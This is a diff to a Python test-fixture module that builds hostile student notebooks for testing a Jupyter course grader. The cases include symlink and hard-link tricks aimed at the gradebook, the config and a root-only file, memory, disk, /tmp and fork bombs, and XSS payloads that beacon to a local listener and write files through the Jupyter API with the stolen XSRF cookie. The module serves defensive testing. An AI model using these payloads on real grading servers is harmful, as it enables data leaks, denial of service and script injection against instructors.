@@ -10,7 +10,7 @@ import copy
 import nbformat
 
 from coursekit.samples import CLASS_CELL, make_submission, solution_cells
-from coursekit.sync import grade_id
+from coursekit.sync import NOTEBOOK, grade_id
 
 # Written by the hostile code wherever it can; the tests look for it everywhere.
 MARK = "PWNED-by-student"
@@ -93,11 +93,6 @@ while True:
 
 
 CPU_HOG = "total = 0\nwhile True:\n    total += 1\n"
-
-
-def cpu_hog(port):
-    """Burns CPU right after the imports, for longer than the kernel's CPU allowance."""
-    return _insert_after(reference(), "imports", CPU_HOG)
 
 
 def reference():
@@ -185,6 +180,207 @@ def unmatchable(port):
     return notebook
 
 
+# A file outside the course that only root may read: a link to it must not leak it.
+ROOT_ONLY = "/var/tmp/udl-hostile-root-only.txt"
+
+LEAVE_LINKS = r"""
+import os
+links = {"leak.html": "../../../source/bn/11_3_Batch_Normalization.ipynb",
+         "grades.db": "../../../gradebook.db", "config.py": "../../../nbgrader_config.py",
+         "secret.txt": "ROOT_ONLY", "up": "../../.."}
+for name, target in links.items():
+    os.symlink(target, name)
+os.mkfifo("pipe")
+open("mine.txt", "w").write("mine")
+os.link("mine.txt", "hard.txt")
+os.makedirs("deeper")
+os.symlink("../../../../source", "deeper/source")
+print("left", sorted(os.listdir(".")))
+""".replace("ROOT_ONLY", ROOT_ONLY)
+
+LINK_OVER_NOTEBOOK = r"""
+import os
+notebook = "NOTEBOOK"
+os.remove(notebook)
+os.symlink("TARGET", notebook)
+print("replaced", notebook, "by a link to", os.readlink(notebook))
+"""
+
+
+def leave_links(port):
+    """Leaves links, a pipe and a hard link in its folder for the grader to follow."""
+    return _insert_after(reference(), CLASS_CELL, LEAVE_LINKS)
+
+
+def link_over_notebook(target):
+    """Replaces its own notebook by a link, so the grader writes the graded one there."""
+    def build(port):
+        return _insert_after(reference(), CLASS_CELL, LINK_OVER_NOTEBOOK.replace(
+            "NOTEBOOK", NOTEBOOK).replace("TARGET", target))
+    return build
+
+
+TMP_BOMB = r"""
+# 4.5 GiB into /tmp, which lives in RAM, in files each under the file-size cap: more than
+# the memory allowance of the whole submission (4 GiB).
+chunk = b"x" * 2**26
+written = 0
+try:
+    for index in range(24):
+        with open("/tmp/fill-%d" % index, "wb") as handle:
+            for _ in range(3):
+                handle.write(chunk)
+                written += 64
+    print("wrote %d MiB to /tmp" % written)
+except OSError as error:
+    print("stopped after %d MiB:" % written, error)
+"""
+
+CHILDREN_MEMORY = r"""
+import os, time
+# Three children of 1.5 GiB each: every one under the per-process cap, together over 4 GiB.
+children = []
+for _ in range(3):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            block = bytearray(3 * 2**29)
+            block[::4096] = b"x" * len(range(0, len(block), 4096))
+            time.sleep(5)
+        finally:
+            os._exit(0)
+    children.append(pid)
+for pid in children:
+    print("child ended with status", os.waitpid(pid, 0)[1])
+"""
+
+BUSY_CHILDREN = r"""
+import os
+# Six children that never stop computing: each under the per-process CPU cap for a while.
+for _ in range(6):
+    if os.fork() == 0:
+        while True:
+            pass
+total = 0
+while True:
+    total += 1
+"""
+
+SPARSE_FILE = r"""
+# A 2 GiB file that costs nothing until something copies it.
+try:
+    with open("big.bin", "wb") as handle:
+        handle.seek(2 * 2**30)
+        handle.write(b"end")
+    print("made a 2 GiB file")
+except OSError as error:
+    print("stopped:", error)
+"""
+
+DISK_FILLER = r"""
+import os
+# Many files of 64 MiB each, every one under the file-size cap, together over the disk cap.
+chunk = os.urandom(2**20) * 64
+for index in range(40):
+    with open("fill-%d.bin" % index, "wb") as handle:
+        handle.write(chunk)
+print("wrote 2.5 GiB")
+"""
+
+SLOW_CELL = "import time\ntime.sleep(SECONDS)\n"
+
+
+def after_imports(source):
+    def build(port):
+        return _insert_after(reference(), "imports", source)
+    return build
+
+
+# What lands in submitted/<student>/bn/ besides the notebook: {file name: link target}.
+SUBMITTED_LINKS = {
+    "submitted_link": {"notes.txt": "../../../source/bn/11_3_Batch_Normalization.ipynb"},
+}
+
+
+# Student markup that would run in a browser. Each payload, if it ever ran, marks the page
+# (title and window.__pwned), calls the test's listener, and tries what hurt before: a
+# file written into the course folder through the instructor's Jupyter session.
+PAYLOAD_JS = (
+    "document.title='MARK';window.__pwned=(window.__pwned||[]).concat(['WHERE']);"
+    "fetch('http://127.0.0.1:PORT/WHERE').catch(function(){});"
+    "fetch('/api/contents/MARK-WHERE.txt',{method:'PUT',headers:{'X-XSRFToken':"
+    "(document.cookie.match(/_xsrf=([^;]*)/)||['',''])[1]},body:JSON.stringify({type:'file',"
+    "format:'text',content:'MARK'})}).catch(function(){})")
+TINY_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAA"
+            "AABJRU5ErkJggg==")
+
+
+def payload_js(port, where):
+    return PAYLOAD_JS.replace("MARK", MARK).replace("PORT", str(port)).replace("WHERE", where)
+
+
+def html_payloads_in(port, where):
+    """Raw HTML that runs script, or loads from the listener, the moment it is shown."""
+    def js(how):
+        return payload_js(port, "%s-%s" % (where, how))
+    return "\n".join([
+        '<script>%s</script>' % js("script"),
+        '<img src="x" onerror="%s">' % js("onerror"),
+        '<svg onload="%s"></svg>' % js("svg"),
+        '<details open ontoggle="%s"><summary>notes</summary></details>' % js("ontoggle"),
+        '<input autofocus onfocus="%s">' % js("onfocus"),
+        '<iframe src="http://127.0.0.1:%d/%s-iframe"></iframe>' % (port, where),
+        "<style>@import url('http://127.0.0.1:%d/%s-style');</style>" % (port, where),
+        '<img src="http://127.0.0.1:%d/%s-pixel">' % (port, where),
+        '<a href="javascript:%s">a javascript: link</a>' % js("link"),
+    ])
+
+
+HTML_OUTPUTS = r'''
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+display(HTML(RAW_HTML))
+display(Javascript(SCRIPT))
+display(Markdown(RAW_MARKDOWN))
+display(SVG(RAW_SVG))
+# nbconvert writes an image's width into the page unquoted.
+display({"image/png": TINY_PNG}, raw=True, metadata={"image/png": {"width": PNG_WIDTH}})
+print("displayed")
+'''
+
+
+def html_payloads(port):
+    """The reference, with script in a markdown cell, in the written answer and in outputs."""
+    notebook = reference()
+    markdown = "\n\n".join([
+        "## My notes\n\nSome *ordinary* markdown first.",
+        html_payloads_in(port, "markdown"),
+        "[a javascript: link](javascript:%s)" % payload_js(port, "markdown-mdlink")
+        .replace("(", "%28").replace(")", "%29"),
+        "![a pixel](http://127.0.0.1:%d/markdown-mdimage)" % port,
+        "\\`<img src=x onerror=\"%s\">\\`" % payload_js(port, "markdown-backtick")])
+    code = (HTML_OUTPUTS
+            .replace("RAW_HTML", repr(html_payloads_in(port, "output")))
+            .replace("SCRIPT", repr(payload_js(port, "output-javascript")))
+            .replace("RAW_MARKDOWN", repr(html_payloads_in(port, "output-markdown")))
+            .replace("RAW_SVG", repr(
+                '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><script>%s</script>'
+                '<circle cx="5" cy="5" r="4"/></svg>' % (payload_js(port, "output-svg-onload"),
+                                                          payload_js(port, "output-svg"))))
+            .replace("TINY_PNG", repr(TINY_PNG))
+            .replace("PNG_WIDTH", repr(
+                "1 onload=document.title='%s';window.__pwned=['output-png-width'];"
+                "fetch('http://127.0.0.1:%d/output-png-width')" % (MARK, port))))
+    _insert_after(notebook, "imports", code)
+    index = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == "imports")
+    notebook.cells.insert(index + 1, nbformat.v4.new_markdown_cell(markdown))
+    written = next(cell for cell in notebook.cells if grade_id(cell) == WRITTEN_ANSWER)
+    written.source += "\n\n" + html_payloads_in(port, "written")
+    return notebook
+
+
+WRITTEN_ANSWER = "written_compounding"
+
+
 CASES = {
     "cheat": cheat,
     "network": network,
@@ -200,8 +396,164 @@ CASES = {
     "not_json": lambda port: b'{"cells": [{"cell_type": "code", "source": "import tor',
     "empty": lambda port: b"",
     "missing": lambda port: None,
+    "leave_links": leave_links,
+    "link_to_submission": link_over_notebook("../../../submitted/zz_reference/bn/" + NOTEBOOK),
+    "link_to_gradebook": link_over_notebook("../../../gradebook.db"),
+    "link_to_config": link_over_notebook("../../../nbgrader_config.py"),
+    "sparse_file": after_imports(SPARSE_FILE),
+    "tmp_bomb": after_imports(TMP_BOMB),
+    "children_memory": after_imports(CHILDREN_MEMORY),
+    "submitted_link": lambda port: reference(),
+    "html_payloads": html_payloads,
     "zz_reference": lambda port: reference(),
 }
 # Students whose file cannot be graded: each must be named in the log and the grade table.
 BROKEN = {"unmatchable": "cannot be matched to the release", "not_json": "is not valid JSON",
-          "empty": "is empty", "missing": "is missing"}
+          "empty": "is empty", "missing": "is missing",
+          "submitted_link": "holds a link"}
+
+
+# Output that must be cut before it costs the grader (coursekit.preprocessors).
+HUGE_LINE = r'''
+import time
+started = time.time()
+print(list(range(1_000_000)))
+'''
+
+AFTER_HUGE_LINE = 'print("the grader took %.1f s over that line" % (time.time() - started))\n'
+
+FLOOD_LINES = r'''
+for index in range(6000):
+    print("line %6d " % index + "." * 90)
+'''
+
+HUGE_IMAGE = r'''
+from IPython.display import display
+display({"image/png": "iVBORw0KGgo" + "A" * 4_000_000, "text/plain": "<a huge image>"},
+        raw=True)
+'''
+
+NOISY_ANSWER = "def predicted_increment():\n  print('noise ' * 500_000)\n"
+
+
+def huge_line(port):
+    """Prints a 7.9 MB line, and 3 MB more from an answer a later cell calls."""
+    answers = solution_cells()
+    answers["predicted_increment"] = answers["predicted_increment"].replace(
+        "def predicted_increment():\n", NOISY_ANSWER, 1)
+    notebook = make_submission(answers)
+    _insert_after(notebook, "imports", AFTER_HUGE_LINE)
+    return _insert_after(notebook, "imports", HUGE_LINE)
+
+
+def flood(port):
+    """Twelve cells of 600 KB of lines each, then a 4 MB image, all before the answers."""
+    notebook = _insert_after(reference(), "imports", HUGE_IMAGE)
+    for _ in range(12):
+        _insert_after(notebook, "imports", FLOOD_LINES)
+    return notebook
+
+
+# Files that intake (coursekit.intake) must refuse in one line, or read despite their age.
+def _json_of(notebook):
+    import json
+
+    return json.loads(nbformat.writes(notebook))
+
+
+def _broken(change):
+    """The reference as JSON with `change` applied to it (cell 20 is a test cell)."""
+    def build(port):
+        import json
+
+        content = _json_of(reference())
+        change(content, content["cells"][19])
+        return json.dumps(content).encode()
+    return build
+
+
+def long_varied_cells(port=0, cells=8, length=120_000):
+    """Stripped metadata, the 56 KB self-check helpers edited, and next to them long cells
+    in which no character is common: difflib's matching took 144 s per pass on this."""
+    import random
+
+    rng = random.Random(0)
+    alphabet = [chr(c) for c in range(32, 127)] + [chr(0x3b1 + k) for k in range(20)]
+    notebook = strip(reference())
+    at = next(i for i, cell in enumerate(notebook.cells) if "Self-check helpers" in cell.source)
+    notebook.cells[at].source += "\n# edited"
+    for _ in range(cells):
+        # A comment: nothing for the kernel to run (or to mistake for a shell command).
+        notebook.cells.insert(at + 1, nbformat.v4.new_code_cell(
+            "# " + "".join(rng.choice(alphabet) for _ in range(length))))
+    return notebook
+
+
+def many_candidates(port=0, per_gap=13, length=3000):
+    """Stripped metadata, every third cell edited, and long unmatched cells everywhere:
+    as many similarity comparisons as the caps allow."""
+    import random
+
+    rng = random.Random(1)
+    alphabet = [chr(c) for c in range(32, 127)] + [chr(0x3b1 + k) for k in range(20)]
+    notebook = strip(reference())
+    cells = []
+    for index, cell in enumerate(notebook.cells):
+        if index % 3 == 1:
+            cell.source += "\n# edited"
+        cells.append(cell)
+        cells.extend(nbformat.v4.new_code_cell("".join(rng.choice(alphabet)
+                                                       for _ in range(length)))
+                     for _ in range(per_gap))
+    notebook.cells = cells
+    return notebook
+
+
+def version_3(port):
+    """The reference saved in Jupyter's older notebook format."""
+    return nbformat.writes(nbformat.convert(reference(), 3), version=3).encode()
+
+
+def too_big(port):
+    """The reference with 25 MB of data pasted into a cell."""
+    notebook = reference()
+    notebook.cells.append(nbformat.v4.new_raw_cell("0" * 25_000_000))
+    return nbformat.writes(notebook).encode()
+
+
+def too_many_cells(port):
+    notebook = reference()
+    notebook.cells += [nbformat.v4.new_markdown_cell("") for _ in range(3000)]
+    return notebook
+
+
+CASES.update({
+    "huge_line": huge_line,
+    "flood": flood,
+    "long_varied_cells": long_varied_cells,
+    "version_3": version_3,
+    "too_big": too_big,
+    "too_many_cells": too_many_cells,
+    "metadata_not_a_dict": _broken(lambda nb, cell: cell["metadata"].update(nbgrader="oops")),
+    "metadata_wrong_types": _broken(lambda nb, cell: cell["metadata"]["nbgrader"].update(
+        points="lots")),
+    "cell_not_a_dict": _broken(lambda nb, cell: nb["cells"].__setitem__(19, 5)),
+    "source_not_text": _broken(lambda nb, cell: cell.update(source=[1, 2])),
+    "no_cell_type": _broken(lambda nb, cell: cell.pop("cell_type")),
+})
+BROKEN.update({
+    "too_big": "is 25.1 MB; grading takes notebooks of up to 20 MB",
+    "too_many_cells": "has 3073 cells; grading takes at most 1000",
+    "metadata_not_a_dict": "cell 20 of 73 has nbgrader metadata 'oops', not a dictionary",
+    "metadata_wrong_types": "cell 20 of 73 has broken nbgrader metadata (points: 'lots' is "
+                            "not of type 'number')",
+    "cell_not_a_dict": "cell 20 of 73 is 5, not a cell",
+    "source_not_text": "cell 20 of 73 has source [1, 2], not text",
+    "no_cell_type": "cell 20 of 73 has no cell type",
+})
+
+# Graded once only: grading them again proves nothing the others do not, and costs the
+# most (timeouts, bombs, megabytes of output). Everyone else is graded twice.
+GRADED_ONCE = {"cheat", "network", "memory_bomb", "process_bomb", "endless_loop",
+               "stubborn_loop", "leave_links", "sparse_file", "tmp_bomb", "children_memory",
+               "html_payloads", "huge_line", "flood", "long_varied_cells"}
